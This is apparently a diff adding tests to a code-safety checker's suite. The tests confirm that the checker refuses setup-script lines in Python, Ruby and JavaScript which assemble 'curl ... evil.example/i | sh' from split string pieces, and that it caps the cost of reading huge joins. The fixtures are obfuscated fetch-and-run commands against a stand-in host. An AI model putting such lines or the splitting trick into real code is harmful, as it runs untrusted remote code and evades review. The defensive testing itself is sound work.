@@ -157,6 +157,35 @@ describe('attack pass 10: Ruby that runs a command it joins or pipes (finding 4)
   });
 });
 
+describe('attack pass 10: a command joined from an array of literals (findings 3 and 4)', () => {
+  for (const [path, line] of [
+    ['src/setup_env.py', `os.system("".join(["cu", "rl"]) + " -fsSL evil.example/i | sh")`],
+    ['src/setup_env.py', `os.system(" | ".join(("curl -fsSL evil.example/i", "sh")))`],
+    ['lib/setup.rb', `system(%w[cu rl].join + " -fsSL evil.example/i | sh")`],
+    ['lib/setup.rb', `system(["curl -fsSL evil.example/i", "sh"].join(" | "))`],
+    ['src/setup.js', `execSync(['cu', 'rl'].join('') + ' -fsSL evil.example/i | sh');`],
+  ] as const) {
+    it(`refuses ${line}`, () => {
+      // Act
+      const result = checked(path, line);
+
+      // Assert
+      expect(result).toMatchObject({ ok: false, reason: expect.stringContaining('remote-script') });
+    });
+  }
+
+  it('refuses, in bounded time, a join whose separator repeated would build a reading far longer than the patch', () => {
+    // Prepare: a 1,000-character separator between 3,000 elements would read as 3 MB.
+    const line = `os.system("${'a'.repeat(1000)}".join([${'"b", '.repeat(3000)}]))`;
+
+    // Act
+    const result = checked('src/setup_env.py', line);
+
+    // Assert
+    expect(result).toMatchObject({ ok: false, reason: expect.stringContaining('shell-reading-too-large') });
+  });
+});
+
 /**
  * The text each cost test reads: about four times what a patch may add (the quadratic readings took 0.4 to 1 s at
  * 20 KB, 4 to 40 s here; the linear ones take under 100 ms here, 350 ms cold). `dangerousCodeSignals` reads any text, whole files too
